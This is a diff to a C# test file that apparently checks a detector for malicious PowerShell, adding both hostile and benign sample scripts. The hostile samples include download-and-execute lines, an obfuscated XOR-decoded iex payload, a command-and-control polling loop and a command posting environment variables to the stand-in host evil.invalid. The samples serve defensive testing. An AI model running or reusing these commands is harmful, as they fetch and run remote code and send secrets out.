@@ -63,11 +63,19 @@ public sealed class PowerShellTests
         "Invoke-WebRequest https://evil.invalid/t.ps1 -OutFile t.ps1; powershell -ExecutionPolicy Bypass -File t.ps1",
         "curl.exe -s -o $env:TEMP\\r.bat http://evil.invalid/r.bat; cmd /c $env:TEMP\\r.bat",
         "$psi = New-Object System.Diagnostics.ProcessStartInfo; $psi.FileName='cmd.exe'; $psi.Arguments='/c curl http://evil.invalid/a.exe -o a.exe && a.exe'; $psi.WindowStyle='Hidden'; [Diagnostics.Process]::Start($psi)",
+        "$a='ht'+'tp://evil.invalid/a'; $m='Down'+'loadString'; $o=New-Object ('Net.'+'WebClient'); & (gcm i*x) $o.$m($a)",
+        "$c=[System.Net.Http.HttpClient]::new(); $b=$c.GetByteArrayAsync('https://evil.invalid/x.exe').Result; [IO.File]::WriteAllBytes(\"$env:TEMP\\x.exe\",$b); Start-Process \"$env:TEMP\\x.exe\"",
+        "while($true){ $cmd = irm http://evil.invalid/cmd; $out = cmd /c $cmd 2>&1 | Out-String; irm http://evil.invalid/out -Method Post -Body $out; sleep 5 }",
+        "Get-ChildItem env: | ConvertTo-Json | % { Invoke-RestMethod -Method Post -Uri https://evil.invalid/c -Body $_ }",
+        "function Dec($s,$k){ $r=''; for($i=0;$i -lt $s.Length;$i+=2){ $r += [char]([Convert]::ToInt32($s.Substring($i,2),16) -bxor $k) }; return $r }\niex (Dec '" + string.Concat(Bait.Select(c => (c ^ 21).ToString("x2", System.Globalization.CultureInfo.InvariantCulture))) + "' 21)",
         "Start-Job { iex (irm http://evil.invalid/a) }",
     ];
 
     public static TheoryData<string> Honest =>
     [
+        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile vc_redist.exe\nStart-Process .\\vc_redist.exe -ArgumentList '/install','/quiet' -Wait",
+        "$i = \"$env:TEMP\\py.exe\"\nInvoke-WebRequest -Uri https://www.python.org/ftp/python/3.11.9/python-3.11.9-amd64.exe -OutFile $i\nStart-Process -FilePath $i -ArgumentList '/quiet PrependPath=1' -Wait\nRemove-Item $i",
+        "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\"\nuv sync",
         "$ErrorActionPreference = 'Stop'\nInvoke-WebRequest -Uri https://huggingface.co/org/m/resolve/main/m.safetensors -OutFile models/m.safetensors\nWrite-Host 'done'",
         "param([string]$Model = 'base', [switch]$Gpu)\nif (-not (Test-Path venv)) { python -m venv venv }\n& .\\venv\\Scripts\\Activate.ps1\npip install -r requirements.txt\npython main.py --model $Model",
         "$url = 'https://github.com/ggml-org/llama.cpp/releases/download/b1/llama-b1-bin-win-cpu-x64.zip'\n$zip = Join-Path $env:TEMP 'llama.zip'\nInvoke-WebRequest -Uri $url -OutFile $zip\nExpand-Archive $zip -DestinationPath .\\llama -Force",
